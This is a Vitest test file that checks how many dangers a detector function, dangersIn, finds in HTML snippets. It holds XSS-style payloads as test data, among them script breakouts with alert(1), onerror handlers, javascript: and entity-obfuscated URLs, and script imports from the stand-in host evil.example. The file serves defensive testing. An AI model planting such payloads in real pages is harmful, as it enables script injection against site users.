import { expect, test } from 'vitest'
import { dangersIn } from './dangersIn.ts'

test.each([
  ['<p>x</p></script><script>alert(1)</script>', 1],
  [
    '<script type="module">import("//evil.example")</script><script src="//evil.example/assets/b/x.js"></script>',
    3,
  ],
  ['<img src="/a.svg" onerror="x">', 1],
  ['<img src=x onerror=alert(1)>', 2],
  ['<img src="https://evil.example/x.png">', 1],
  ['<a href="javascript:alert(1)">x</a><a href="//evil.example">y</a>', 2],
  ['<a href="&#x27;&quot;javascript:1">x</a>', 1],
  ['<iframe srcdoc="x"></iframe>', 2],
  ['<base href="/x"><form action="data:text/html,x">', 2],
  ['<meta http-equiv="refresh" content="0">', 1],
  [
    '<a href="/about" title="a > b &lt;script&gt;">x</a><a href="mailto:a@b.example">m</a><script type="module" src="/assets/b/l.js"></script>',
    0,
  ],
])('in %s dangersIn finds %i dangers', (html, count) => expect(dangersIn(html)).toHaveLength(count))
